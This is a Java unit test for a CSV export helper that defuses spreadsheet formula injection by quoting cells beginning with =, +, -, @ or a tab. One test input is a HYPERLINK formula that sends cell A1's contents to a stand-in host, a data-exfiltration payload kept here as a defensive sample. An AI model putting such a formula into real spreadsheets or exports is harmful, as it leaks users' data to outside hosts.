package gov.supervision.app.web;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** A CSV cell a spreadsheet would run as a formula is written as the text it is. */
class CsvExportTest {

    @Test
    void neutralisesCellsASpreadsheetWouldEvaluate() {
        assertThat(CsvExport.inert("=HYPERLINK(\"http://x/?\"&A1,\"详情\")")).startsWith("'=HYPERLINK");
        assertThat(CsvExport.inert("+1+1")).isEqualTo("'+1+1");
        assertThat(CsvExport.inert("-2+3")).isEqualTo("'-2+3");
        assertThat(CsvExport.inert("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvExport.inert("\t=1")).isEqualTo("'\t=1");
    }

    @Test
    void leavesNumbersAndOrdinaryTextAlone() {
        assertThat(CsvExport.inert("-3")).isEqualTo("-3");
        assertThat(CsvExport.inert("12.5")).isEqualTo("12.5");
        assertThat(CsvExport.inert("需协调资金 = 100万")).isEqualTo("需协调资金 = 100万");
        assertThat(CsvExport.inert("")).isEmpty();
    }

    @Test
    void theDownloadHoldsTheNeutralisedCell() {
        byte[] body = CsvExport.of("x.csv", List.of("reason"), List.of(List.of("=1+1"))).getBody();
        assertThat(new String(body, StandardCharsets.UTF_8)).contains("'=1+1").doesNotContain("\n=1+1");
    }
}
